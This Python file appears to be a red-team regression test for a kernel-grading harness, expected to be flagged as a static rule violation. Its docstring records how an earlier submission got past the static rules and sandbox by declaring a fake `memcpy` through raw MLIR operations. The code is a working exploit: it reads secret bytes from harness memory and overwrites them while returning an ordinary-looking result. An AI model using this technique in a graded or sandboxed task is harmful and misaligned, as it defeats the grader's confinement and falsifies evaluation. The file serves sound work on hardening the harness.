"""Red team (session 28, fifth CPU round): a host helper named `memcpy`, with a body, reads and writes anywhere.

The helper (`func.func @memcpy` of libc's prototype, returning its first argument, only the DSL's attributes) is
appended to the module being traced, and a `func.call @memcpy` copies 16 bytes: LLVM takes a function of that name
and prototype for the library's and the call copies. Pointers: a tensor argument's iterator plus an Int64 offset
(`cute.get_iter`, `cute.add_offset`). Ops made through MLIR's `Operation` class, reached as
`type(op.operation)` of an llvm-dialect op view (`cute.arch.nvvm_wrappers.llvm.ZeroOp`), with no `.ir` in the
file. On the CPU in run mode it read a bytes object and overwrote it, past the static rules and confinement. Now
the static rules refuse `.operation`, `.parent`, `.regions`, `.blocks`, `.erase` and `.parse` in a CuTe
file, and host code may hold one function (the traced one) and no `func.call`.

Expected: rule_violation/static
"""

import cutlass
import cutlass.cute as cute
import torch
from cutlass.cute.runtime import from_dlpack

PROBE = {}
L = cute.arch.nvvm_wrappers.llvm


@cute.jit
def _move(mD: cute.Tensor, mS: cute.Tensor, doff: cutlass.Int64, off: cutlass.Int64):
    anchor = L.ZeroOp(cutlass.Int64.mlir_type)
    op = anchor.operation
    Op = type(op)
    d = (mD.iterator + doff).value
    s = (mS.iterator + off).value
    PROBE["types"] = (str(d.type), str(s.type))
    text = (f"func.func @memcpy(%a: {d.type}, %b: {s.type}, %n: i64) -> {d.type} "
            f"{{ return %a : {d.type} }}")
    module = op.parent.parent
    module.regions[0].blocks[0].append(Op.parse(text))
    holder = Op.parse('"arith.constant"() {value = 16 : i64, callee = @memcpy} : () -> i64')
    n = Op.create("arith.constant", results=[cutlass.Int64.mlir_type],
                  attributes={"value": holder.attributes["value"]}).result
    Op.create("func.call", results=[d.type], operands=[d, s, n], attributes={"callee": holder.attributes["callee"]})
    op.erase()


def solve(x, residual, weight):
    secret = b"SECRET-HARNESS-BYTES-0123456789"
    buf = torch.zeros(16, dtype=torch.uint8)
    src = torch.zeros(16, dtype=torch.uint8)
    d, s = from_dlpack(buf), from_dlpack(src)
    fn = cute.compile(_move, d, s, cutlass.Int64(0), cutlass.Int64(0))
    fn(d, s, cutlass.Int64(0), cutlass.Int64(id(secret) + 32 - src.data_ptr()))  # read harness memory
    PROBE["read"] = bytes(buf.tolist())
    mark = torch.tensor(list(b"PWNED-BY-LIBCALL"), dtype=torch.uint8)
    m = from_dlpack(mark)
    fn(d, m, cutlass.Int64(id(secret) + 32 - buf.data_ptr()), cutlass.Int64(0))  # write into an immutable bytes
    PROBE["secret_after_write"] = secret
    h = x + residual
    return h, h
